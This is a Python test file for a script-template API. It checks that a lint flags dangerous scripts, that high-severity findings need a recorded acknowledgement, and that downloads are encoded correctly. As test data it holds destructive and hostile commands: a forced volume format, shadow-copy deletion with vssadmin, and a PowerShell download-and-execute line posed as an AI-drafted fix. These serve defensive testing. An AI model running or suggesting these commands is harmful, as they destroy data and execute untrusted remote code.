"""Findings over the API (issue 12): every script an engineer can run carries the lint's
findings; a template with a high-severity finding is published only with a recorded
acknowledgement; scripts handed out for saving come as files PowerShell 5.1 reads right."""

from __future__ import annotations

from datetime import UTC, datetime

from sqlalchemy import inspect, select, text
from sqlalchemy.ext.asyncio import create_async_engine

from plugin.features.scripts.models import ScriptTemplate
from plugin.kernel.migrate import downgrade, upgrade
from tests.fake_anthropic import FakeAnthropic
from tests.helpers import db_of, insert_fix, new_session

WIPE = {
    "name": "Wipe a data disk",
    "language": "powershell",
    "body": "$ErrorActionPreference = 'Stop'\nFormat-Volume -DriveLetter {{drive}} -Force\n",
    "parameters_schema": [{"name": "drive", "type": "name", "required": True}],
}
BOM = "\ufeff"
NOW = datetime(2026, 1, 1, tzinfo=UTC)


async def _post_template(client, headers, spec):
    return await client.post("/api/v1/scripts/templates", json=spec, headers=headers)


async def test_a_high_finding_needs_an_acknowledgement_that_is_recorded(client, admin_headers):
    resp = await _post_template(client, admin_headers, WIPE)
    assert resp.status == 422
    error = (await resp.json())["error"]
    assert error["code"] == "unacknowledged_findings"
    assert "acknowledge_findings" in error["details"]["fields"]
    (finding,) = error["details"]["findings"]
    assert finding["severity"] == "high" and finding["line"] == 2
    assert finding["rule"] == "data_destruction.format_volume"

    resp = await _post_template(client, admin_headers, {**WIPE, "acknowledge_findings": True})
    assert resp.status == 201, await resp.text()
    template = await resp.json()
    assert [f["rule"] for f in template["findings"]] == ["data_destruction.format_volume"]
    acknowledged = template["findings_acknowledgement"]
    assert acknowledged["by"].startswith("token:") and acknowledged["at"]
    assert acknowledged["findings"][0]["line"] == 2

    # Replacing the body asks again; a harmless body clears the record.
    url = f"/api/v1/scripts/templates/{template['id']}"
    resp = await client.put(url, json=WIPE, headers=admin_headers)
    assert resp.status == 422
    harmless = {**WIPE, "body": "Get-Volume -DriveLetter {{drive}}\n"}
    resp = await client.put(url, json=harmless, headers=admin_headers)
    assert resp.status == 200
    body = await resp.json()
    assert body["findings"] == [] and body["findings_acknowledgement"] is None


async def test_medium_findings_are_shown_but_need_no_acknowledgement(client, admin_headers):
    spec = {**WIPE, "body": "Disable-ComputerRestore -Drive {{drive}}\n"}
    resp = await _post_template(client, admin_headers, spec)
    assert resp.status == 201
    body = await resp.json()
    assert [f["severity"] for f in body["findings"]] == ["medium"]
    assert body["findings_acknowledgement"] is None


async def test_promoting_a_dangerous_draft_needs_an_acknowledgement(
    llm_client, llm_headers, fake_anthropic
):
    from plugin.features.accounts.auth import create_token
    from plugin.kernel.tenancy import get_account_by_slug

    s = await new_session(llm_client, llm_headers)
    script = "vssadmin delete shadows /all /quiet\n"
    fix_id = await insert_fix(llm_client, s["id"], ai_drafted_script=script)
    fake_anthropic.script(FakeAnthropic.text("not json"))  # extraction falls back
    resp = await llm_client.post(
        f"/api/v1/ai-sessions/{s['id']}/suggested-fixes/{fix_id}/decision",
        json={"decision": "draft_template"},
        headers=llm_headers,
    )
    draft_id = (await resp.json())["draft_template_id"]
    draft = await (
        await llm_client.get(f"/api/v1/scripts/draft-templates/{draft_id}", headers=llm_headers)
    ).json()
    assert draft["findings"][0]["rule"] == "shadow_copy_deletion.delete_shadow_copies"

    async with db_of(llm_client).write() as tx:
        admin, _ = await create_token(tx, await get_account_by_slug(tx, "default"), role="admin")
    headers = {"Authorization": f"Bearer {admin}"}
    url = f"/api/v1/scripts/draft-templates/{draft_id}/promote"
    resp = await llm_client.post(url, json={}, headers=headers)
    assert resp.status == 422
    assert (await resp.json())["error"]["code"] == "unacknowledged_findings"
    resp = await llm_client.post(url, json={"acknowledge_findings": True}, headers=headers)
    assert resp.status == 201
    assert (await resp.json())["findings_acknowledgement"]["findings"]


async def test_the_library_file_carries_its_acknowledgements(client, admin_headers):
    from plugin.features.scripts.service import LIBRARY_REVIEWER, import_templates
    from plugin.kernel.errors import ApiError
    from plugin.kernel.tenancy import get_account_by_slug

    item = {k: v for k, v in WIPE.items()}
    async with db_of(client).write() as tx:
        account = await get_account_by_slug(tx, "default")
        try:
            await import_templates(tx, account.id, [item], origin="library")
            raise AssertionError("an unacknowledged finding was imported")
        except ApiError as exc:
            assert exc.code == "unacknowledged_findings"
    reviewed = {**item, "acknowledged_findings": ["data_destruction.format_volume"]}
    async with db_of(client).write() as tx:
        account = await get_account_by_slug(tx, "default")
        counts = await import_templates(tx, account.id, [reviewed], origin="library")
        again = await import_templates(tx, account.id, [reviewed], origin="library")
    assert counts["created"] == 1 and again["unchanged"] == 1
    async with db_of(client).read() as db:
        template = (await db.execute(select(ScriptTemplate))).scalar_one()
    assert template.findings_acknowledgement["by"] == LIBRARY_REVIEWER


async def test_generate_hands_out_findings_and_a_file_powershell_reads_right(
    client, admin_headers, engineer_headers
):
    spec = {
        "name": "Unlock",
        "language": "powershell",
        "body": "$ErrorActionPreference = 'Stop'\nUnlock-ADAccount -Identity {{user}}\n",
        "parameters_schema": [{"name": "user", "type": "name", "required": True}],
    }
    template = await (await _post_template(client, admin_headers, spec)).json()
    resp = await client.post(
        "/api/v1/scripts/generate",
        json={"template_id": template["id"], "parameters": {"user": "PE\u00d1A"}},
        headers=engineer_headers,
    )
    body = await resp.json()
    assert resp.status == 201, body
    assert "Unlock-ADAccount -Identity $('PE' + [char]0x00D1 + 'A')" in body["rendered_script"]
    assert body["rendered_script"].isascii() and body["findings"] == []
    download = body["download"]
    assert download["filename"] == "unlock.ps1"
    assert download["content"].startswith(BOM)
    assert download["content"][1:] == body["rendered_script"].replace("\n", "\r\n")


async def test_cmd_and_bash_downloads(client, admin_headers, engineer_headers):
    for language, body, expected_name in (
        ("cmd", "@echo off\necho {{x}}\n", "echo-it.cmd"),
        ("bash", "#!/usr/bin/env bash\necho -- {{x}}\n", "echo-it.sh"),
    ):
        spec = {
            "name": "Echo it",
            "slug": "echo-it",
            "language": language,
            "body": body,
            "parameters_schema": [{"name": "x", "type": "string", "required": True}],
        }
        template = await (await _post_template(client, admin_headers, spec)).json()
        resp = await client.post(
            "/api/v1/scripts/generate",
            json={"template_id": template["id"], "parameters": {"x": "hi"}},
            headers=engineer_headers,
        )
        download = (await resp.json())["download"]
        assert download["filename"] == expected_name
        assert not download["content"].startswith(BOM)
        assert ("\r\n" in download["content"]) == (language == "cmd")
        async with db_of(client).write() as tx:
            await tx.execute(text("DELETE FROM script_templates"))


async def test_an_ai_drafted_script_carries_its_findings_everywhere(client, engineer_headers):
    s = await new_session(client, engineer_headers)
    script = "iex (iwr 'http://203.0.113.9/fix.ps1' -UseBasicParsing)"
    fix_id = await insert_fix(client, s["id"], ai_drafted_script=script)
    url = f"/api/v1/ai-sessions/{s['id']}"
    session = await (await client.get(url, headers=engineer_headers)).json()
    (finding,) = session["active_fix"]["findings"]
    assert finding["severity"] == "high" and finding["rule"].startswith("download_execute.")
    resp = await client.post(
        f"/api/v1/ai-sessions/{s['id']}/suggested-fixes/{fix_id}/decision",
        json={"decision": "one_off", "edited_script": "Get-Service Spooler"},
        headers=engineer_headers,
    )
    body = await resp.json()
    assert body["findings"] == [] and body["fix"]["findings"] == []  # the edit is what runs
    assert body["download"]["content"] == BOM + "Get-Service Spooler"


async def test_migration_0005_adds_the_acknowledgement_and_takes_it_back(database_factory):
    url = await database_factory.empty()
    await upgrade(url, "0003")
    engine = create_async_engine(url)
    async with engine.begin() as conn:
        await conn.execute(
            text(
                "INSERT INTO accounts (id, slug, name, psa_provider, preferences, created_at, "
                "updated_at) VALUES (1, 'default', 'Default', 'local', '{}', :now, :now)"
            ),
            {"now": NOW},
        )
        await conn.execute(
            text(
                "INSERT INTO script_templates (id, account_id, slug, name, description, keywords,"
                " language, body, parameters_schema, origin, created_at, updated_at) VALUES "
                "(1, 1, 'wipe', 'Wipe', '', '[]', 'powershell', 'Format-Volume -Force', '[]', "
                "'custom', :now, :now)"
            ),
            {"now": NOW},
        )
    await engine.dispose()
    await upgrade(url, "0005")
    engine = create_async_engine(url)
    async with engine.connect() as conn:
        added = await conn.execute(text("SELECT findings_acknowledgement FROM script_templates"))
        assert added.scalar() is None
    await engine.dispose()
    await downgrade(url, "0003")
    engine = create_async_engine(url)
    async with engine.connect() as conn:
        rows = (await conn.execute(text("SELECT slug, body FROM script_templates"))).all()
        columns = await conn.run_sync(
            lambda sync: [c["name"] for c in inspect(sync).get_columns("script_templates")]
        )
    await engine.dispose()
    assert [tuple(r) for r in rows] == [("wipe", "Format-Volume -Force")]
    assert "findings_acknowledgement" not in columns
